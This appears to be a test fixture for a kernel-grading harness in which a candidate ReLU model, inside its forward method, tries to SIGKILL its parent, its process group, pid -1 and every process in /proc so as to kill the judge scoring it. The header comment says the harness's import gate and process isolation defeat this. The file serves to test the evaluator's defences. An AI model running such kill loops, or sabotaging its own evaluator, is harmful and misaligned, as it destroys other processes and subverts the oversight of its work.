# expect: pass
# Tries to kill the process that judges it: its parent, its process group, everything it
# may signal, every pid /proc shows. The gate refuses `os`; with the gate off, the judge
# runs in another process of another user, outside the candidate's PID namespace, so none
# of it reaches the judge: the candidate then computes ReLU and passes.
import torch
import torch.nn as nn
import triton
import triton.language as tl


@triton.jit
def relu_kernel(x_ptr, y_ptr, n, BLOCK: tl.constexpr):
    offs = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offs < n
    tl.store(y_ptr + offs, tl.maximum(tl.load(x_ptr + offs, mask=mask), 0.0), mask=mask)


class ModelNew(nn.Module):
    def forward(self, x):
        import os
        import signal

        me = os.getpid()
        for pid in [os.getppid(), 0, -1] + [int(p) for p in os.listdir("/proc") if p.isdigit()]:
            if pid != me:
                try:
                    os.kill(pid, signal.SIGKILL)
                except OSError:
                    pass
        y = torch.empty_like(x)
        relu_kernel[(triton.cdiv(x.numel(), 1024),)](x, y, x.numel(), BLOCK=1024)
        return y
